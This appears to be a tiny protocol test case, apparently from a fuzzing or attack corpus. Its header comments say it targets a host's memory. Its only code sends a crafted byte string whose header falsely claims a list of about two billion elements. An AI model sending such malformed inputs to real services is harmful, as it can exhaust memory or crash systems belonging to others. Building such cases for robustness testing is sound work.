# aim: the host's memory, by a list that claims to be long
# kind: protocol
# source: own
# ends: protocol
send(b'\0\0\0\7\x92\x43\xdd\x7f\xff\xff\xff')
wait()
